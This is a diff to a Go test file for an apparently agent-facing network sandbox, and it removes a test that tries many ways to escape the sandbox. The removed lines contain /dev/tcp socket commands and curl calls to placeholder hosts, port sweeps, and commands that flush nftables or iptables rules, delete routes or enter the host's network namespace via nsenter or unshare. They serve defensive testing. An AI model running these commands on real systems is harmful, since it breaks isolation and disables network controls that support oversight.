@@ -4,8 +4,6 @@ import (
 	"fmt"
 	"strings"
 	"testing"
-
-	"github.com/creel-run/creel/audit"
 )
 
 // arena is a sandbox for network attacks. Every name leads to the sink, whether
@@ -373,71 +371,5 @@ func TestEscapeTLS(t *testing.T) {
 				t.Errorf("a key inside: %s", got)
 			}
 		})
-	})
-}
-
-// TestEscapeNetwork: layers 3 and 4.
-func TestEscapeNetwork(t *testing.T) {
-	bothUsers(t, func(t *testing.T) {
-		a := newArena(t)
-		a.run(t, "NET-02", attacks(scripts("bash -c 'exec 3<>/dev/tcp/no.test/443; echo MARK >&3; cat <&3'", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443; echo MARK >&3; cat <&3'",
-			"env -i /usr/bin/curl -sS -m 5 http://no.test/MARK", "env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/no.test/22; echo MARK >&3; cat <&3'"))...)
-		a.run(t, "NET-03", attack{what: "ports", way: transparent, do: func(a *arena, mark string) string {
-			x := a.probe("sweep", "no.test", mark)
-			return string(x.Stdout) + string(x.Stderr)
-		}})
-		a.escape(t, a.s, "NET-06_NET-10", a.works, func(t *line) {
-			t.way(transparent)
-			x := a.probe("sockets")
-			if x.Code != 0 {
-				t.Errorf("%s%s", x.Stdout, x.Stderr)
-			}
-			seq := len(a.events())
-			y := a.probe("udp", "192.0.2.5:4433", "udpmark")
-			if !strings.Contains(string(y.Stdout), "refused") {
-				t.Errorf("udp: %s%s", y.Stdout, y.Stderr)
-			}
-			a.event(seq, "a refused packet", func(e audit.Event) bool {
-				return e.Kind == audit.Refused && e.Protocol == "udp" && e.Host == "192.0.2.5"
-			})
-		})
-		a.escape(t, a.s, "NET-07_NET-09", a.works, func(t *line) {
-			t.way(inside)
-			for _, c := range []string{"nft flush ruleset", "nft list ruleset", "iptables -t nat -F", "ip route del default", "ip link set lo down", "ip addr add 10.9.9.9/8 dev lo", "nsenter -t 1 -n true",
-				"unshare -n true", "unshare -Urn true", "unshare -U true", "ip netns add x", "sysctl -w net.ipv4.ip_forward=1", "nsenter --net=/proc/1/ns/net true"} {
-				if x := a.do("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; "+c); x.Code == 0 {
-					t.Errorf("%s: succeeded: %s", c, x.Stdout)
-				}
-			}
-		})
-		a.escape(t, a.s, "NET-16", a.works, func(x *line) {
-			x.way(inside)
-			// From the host nothing of the sandbox can be reached: no listener is in its namespace.
-			for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
-				if text := readFile(t, f); strings.Contains(text, ":0C38 ") || strings.Contains(text, ":7919 ") {
-					t.Errorf("%s: a listener of a sandbox stands in the host's network:\n%s", f, text)
-				}
-			}
-		})
-		// Straight to the listeners, under every name they have.
-		a.run(t, "NET-15", attacks([]attack{{what: "redirect listener", do: func(a *arena, mark string) string {
-			return a.wire(wire{Way: transparent, Host: "127.0.0.1", Port: 31001, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
-		}}, {what: "redirect listener, IPv6", do: func(a *arena, mark string) string {
-			return a.wire(wire{Way: transparent, Host: "::1", Port: 31001, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
-		}}, {what: "origin form at the proxy", do: func(a *arena, mark string) string {
-			return a.wire(wire{Way: absolute, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
-		}}, {what: "TLS at the proxy", do: func(a *arena, mark string) string {
-			return a.wire(wire{Way: absolute, Host: "ok.test", TLS: true, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
-		}}})...)
-		// Servers of the agent's own, on its own loopback, keep working.
-		if got := a.sh(`python3 -c '
-import socket, threading
-for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
-    s = socket.socket(fam); s.bind((addr, 0)); s.listen()
-    c = socket.create_connection((addr, s.getsockname()[1])); p, _ = s.accept(); c.sendall(b"hello"); print(p.recv(5))
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0)); v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.sendto(b"dgram", u.getsockname()); print(u.recv(9))
-'`); strings.Count(got, "hello") != 2 || !strings.Contains(got, "dgram") {
-			t.Errorf("loopback inside: %s", got)
-		}
 	})
 }
